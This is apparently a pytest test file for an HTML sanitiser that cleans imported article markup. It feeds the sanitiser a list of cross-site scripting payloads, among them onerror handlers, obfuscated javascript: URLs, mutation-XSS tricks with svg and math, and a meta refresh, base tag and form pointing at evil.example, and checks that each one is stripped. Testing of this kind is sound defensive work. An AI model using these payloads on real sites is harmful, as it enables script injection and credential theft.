"""Foreign HTML into an article's HTML: what a reader saw stays, what ran or hid goes."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from yimen.foundation.html_trees import remove_element, unwrap_element
from yimen.foundation.sanitising import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_article_html, plain_text


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVa&#09;ScRiPt:alert(1)">x</a>',
        '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<iframe src=javascript:alert(1)></iframe>",
        '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
        "<template><script>alert(1)</script></template>",
        '<object data="x.swf"><embed src="x.swf"></object>',
        '<meta http-equiv="refresh" content="0;url=http://evil.example">',
        "<base href=http://evil.example>",
        '<form action="http://evil.example"><input name=password><button>ok</button></form>',
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<xml><script>alert(1)</script></xml>",
    ],
)
def test_nothing_that_runs_or_leads_astray_survives(attack: str) -> None:
    cleaned = clean_article_html(f"<p>before</p>{attack}<p>after</p>").lower()
    for trace in (
        "script",
        "onerror",
        "onmouseover",
        "alert(1)>",
        "evil.example",
        "<form",
        "<input",
        "style=",
        "<object",
    ):
        assert trace not in cleaned
    assert "before" in cleaned


@pytest.mark.parametrize(
    "hiding",
    [
        'style="display:none"',
        'style="DISPLAY : NONE !important"',
        'style="position:absolute;left:-9999px"',
        'style="text-indent:-9999em"',
        'style="font-size:0"',
        'style="height:1px;overflow:hidden"',
        'style="visibility:hidden"',
        "hidden",
    ],
)
def test_a_hidden_link_farm_goes_with_its_text(hiding: str) -> None:
    farm = f'<div {hiding}><a href="http://casino.example/">澳门博彩</a></div>'
    assert clean_article_html(f"<p>正文</p>{farm}<p>完</p>") == "<p>正文</p>\n<p>完</p>"


def test_share_buttons_go() -> None:
    assert (
        clean_article_html('<p>文</p><div class="bdsharebuttonbox"><a href="#">分享到微博</a></div>')
        == "<p>文</p>"
    )


def test_what_word_pasted_becomes_plain_paragraphs() -> None:
    pasted = (
        '<p class="MsoNormal" style="margin:0cm;text-indent:32pt"><span lang="EN-US" style="font-family:仿宋">'
        "一、<o:p></o:p></span><b>总体要求</b></p><p class=MsoNormal>&nbsp;</p>"
    )
    assert clean_article_html(pasted) == "<p>一、<b>总体要求</b></p>"


def test_tables_keep_spans_and_lose_widths() -> None:
    first = '<table width="600" border=1><tr><td colspan="2" width=300 onclick=x>合计</td></tr>'
    table = f"{first}<tr><td>a</td><td>b</td></tr></table>"
    cleaned = clean_article_html(table)
    assert 'colspan="2"' in cleaned
    assert "width" not in cleaned
    assert plain_text(cleaned) == "合计\na\tb"


def test_cells_and_list_items_need_no_paragraphs() -> None:
    cleaned = clean_article_html(
        "<table><tr><td><p>甲</p></td><td><p>乙</p><p>丙</p></td></tr></table><ul><li><p>一</p></ul>"
    )
    assert "<p>" not in cleaned
    assert plain_text(cleaned) == "甲\t乙\n丙\n一"


def test_tables_that_only_place_things_are_unwrapped() -> None:
    layout = (
        "<table><tr><td><p>一</p><table><tr><td>表</td><td>格</td></tr></table><p>二</p></td></tr></table>"
    )
    cleaned = clean_article_html(layout)
    assert cleaned.startswith("<p>一</p>\n<table>")
    assert cleaned.count("<table>") == 1


def test_headings_lists_and_line_breaks() -> None:
    assert clean_article_html("<h1>题</h1>甲<br><br>乙<h6>小</h6><ul><li>一<li>二</ul>") == (
        "<h2>题</h2>\n<p>甲</p>\n<p>乙</p>\n<h4>小</h4>\n<ul><li>一</li><li>二</li></ul>"
    )


def test_a_form_around_the_whole_page_costs_no_text() -> None:
    assert (
        clean_article_html('<form id="aspnetForm"><div>正文</div><input type=hidden value=x></form>')
        == "<p>正文</p>"
    )


def test_a_page_nested_too_deep_keeps_its_words() -> None:
    assert clean_article_html("<div>" * 5000 + "words" + "</div>" * 5000) == "<p>words</p>"


def test_plain_text_reads_as_the_page_does() -> None:
    html = "<h2>题</h2>\n<p>甲&amp;乙<br>丙</p><ul><li>一</li><li>二</li></ul><pre>x\n y</pre>"
    assert plain_text(html) == "题\n甲&乙\n丙\n一\n二\nx\ny"
    assert plain_text("") == ""


def test_elements_leave_their_trees_without_taking_text_along() -> None:
    root = etree.fromstring("<p>a<s>b<i>c</i>d</s>e<s>f</s>g<s/>h</p>")
    for element in list(root.iter("s")):
        unwrap_element(element)
    assert etree.tostring(root) == b"<p>ab<i>c</i>defgh</p>"
    remove_element(root[0])
    assert etree.tostring(root) == b"<p>abdefgh</p>"


PIECES = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<div>",
            "</div>",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<ul>",
            "<li>",
            "<br>",
            "<a href='x'>",
        ),
        *(
            "</a>",
            "<img src=x onerror=y>",
            "<script>",
            "</script>",
            "<style>",
            "</style>",
            "<!--",
            "-->",
            "<svg>",
            "<math>",
        ),
        *("<b", ">", "<", "&lt;", "&#60;", "'", '"', "<form>", "<title>", "<noscript>", "文字", "text "),
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_whatever_is_thrown_at_it_only_allowed_tags_come_out(html: str) -> None:
    cleaned = clean_article_html(html)
    allowed = {name for names in ALLOWED_ATTRIBUTES.values() for name in names}
    for tag, attributes in re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^<>]*)?)>", cleaned):
        assert tag in ALLOWED_TAGS
        assert set(re.findall(r"([\w:-]+)\s*=\s*\"", attributes)) <= allowed
    assert clean_article_html(cleaned) == cleaned or plain_text(clean_article_html(cleaned)) == plain_text(
        cleaned
    )
